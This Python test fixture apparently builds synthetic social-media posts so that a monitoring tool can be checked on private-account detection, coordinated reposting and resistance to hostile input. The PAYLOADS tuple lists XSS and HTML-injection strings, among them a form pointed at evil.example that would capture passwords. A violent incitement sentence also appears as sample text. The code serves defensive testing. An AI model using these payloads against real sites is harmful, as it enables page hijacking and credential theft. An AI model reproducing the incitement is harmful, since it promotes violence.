"""A small home in which private accounts stand out, posts attack the page, and some of the words are violent."""

import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bastau.engine import open_engine
from bastau.home import Home
from bastau.intake import import_file
from bastau.pipeline import run

PRIVATE = [f"tynysh_{name}" for name in ("aq", "boz", "kok", "qara", "sary", "qyzyl")]
OUTLETS = [f"gazeta_{name}" for name in ("altai", "balqash", "caspi", "dala")]
VIOLENT = "Brothers, take your knives and kill the unbelievers in every street of the city today"
STORY = "The old bridge over the river was closed for three weeks because the ice had moved its stones"
PAYLOADS = (
    "<script>document.title='ran'</script>",
    "<img src=x onerror=\"document.title='ran'\">",
    "\"'><svg onload=document.title='ran'>",
    "{{ request.user.password }} {% csrf_token %}",
    "<a href=\"javascript:document.title='ran'\">a</a>",
    "</title></style></textarea><iframe srcdoc='<script>1</script>'>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=https://evil.example><input name=password>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202etxt.exe\u202c <details open ontoggle=document.title='ran'>",
)
PASSWORD = "correct horse battery staple"
START = datetime(2024, 5, 1, tzinfo=UTC)


def _post(author: str, number: int, minute: float, text: str, **fields: object) -> dict[str, object]:
    is_private = author not in OUTLETS
    return {
        "post_id": f"x:{author}/{number}",
        "platform": "x",
        "source": author,
        "source_kind": "account",
        "source_name": author.replace("_", " ").title(),
        "audience": 40 if is_private else 90_000,
        "published_at": (START + timedelta(minutes=minute)).isoformat(),
        "url": f"https://x.com/{author}/status/{number}",
        "text": text,
    } | fields


def _posts() -> Iterator[dict[str, object]]:
    dice = random.Random(3)
    words = [
        "qala",
        "bridge",
        "river",
        "bazaar",
        "school",
        "winter",
        "train",
        "bread",
        "steppe",
        "light",
        "music",
        "garden",
    ]
    for hour in range(48):  # so that the time before was looked at
        text = " ".join(dice.choice(words) for _ in range(14)) + f" {hour}"
        yield _post(OUTLETS[3], hour + 1, hour * 60 - 2 * 1440, text)
    for i, text in enumerate((STORY, VIOLENT)):
        begin, number = 60 + 300 * i, 1000 * (i + 1)
        first = _post(PRIVATE[0], number, begin, text, media=[{"url": f"https://x.com/{PRIVATE[0]}/photo.jpg"}])
        yield first
        for k, author in enumerate([*PRIVATE[1:], *OUTLETS]):
            origin = {"repost_of": first["post_id"], "forwarded_from": PRIVATE[0]}
            yield _post(author, number + 1 + k, begin + 5 + 5 * k, f"RT @{PRIVATE[0]}: {text}", **origin)
        told = _post(
            OUTLETS[0], number + 20, begin + 60, f"{text} @{PRIVATE[0]}", media=[{"url": "https://m.example/a.jpg"}]
        )
        yield told
        for k, author in enumerate(OUTLETS[1:]):
            again = {"repost_of": told["post_id"]}
            yield _post(author, number + 30 + k, begin + 65 + 5 * k, f"RT @{OUTLETS[0]}: {text}", **again)
    for i, payload in enumerate(PAYLOADS):
        for k, author in enumerate((OUTLETS[1], OUTLETS[2], PRIVATE[1])):
            text = f"{payload} market prices {i} {' '.join(words[:8])} {payload}"
            attacks = {"title": payload, "links": ["javascript:alert(1)", f"https://news.example/{i}?q={payload}"]}
            if author in OUTLETS:
                attacks["source_name"] = payload
            yield _post(author, 5000 + 10 * i + k, 700 + 10 * i + k, text, **attacks)
    for i in range(6):  # moved together within seconds
        for k, author in enumerate([*PRIVATE, *OUTLETS[:3]]):
            text = " ".join(dice.choice(words) for _ in range(9))
            link = [f"https://moved.example/{i}"]
            yield _post(author, 7000 + 20 * i + k, 900 + 30 * i + k / 20, text, links=link)
    for i in range(40):  # somebody has to share something else
        text = " ".join(dice.choice(words) for _ in range(9))
        yield _post(f"adam_{i}", 9000 + i, 900 + 5 * i, text, links=[f"https://site{i}.example/"])


def make_home(folder: Path) -> Home:
    """Import and process the posts in ``folder``."""
    home = Home.open(folder / "home", create=True)
    file = folder / "posts.ndjson"
    file.write_text("\n".join(json.dumps(post, ensure_ascii=False) for post in _posts()), "utf-8")
    with home.locked():
        import_file(home, file, now=START + timedelta(days=2))
        engine = open_engine(home.settings.engine)
        try:
            run(home, engine, progress=lambda *_: None)
        finally:
            engine.close()
    return home
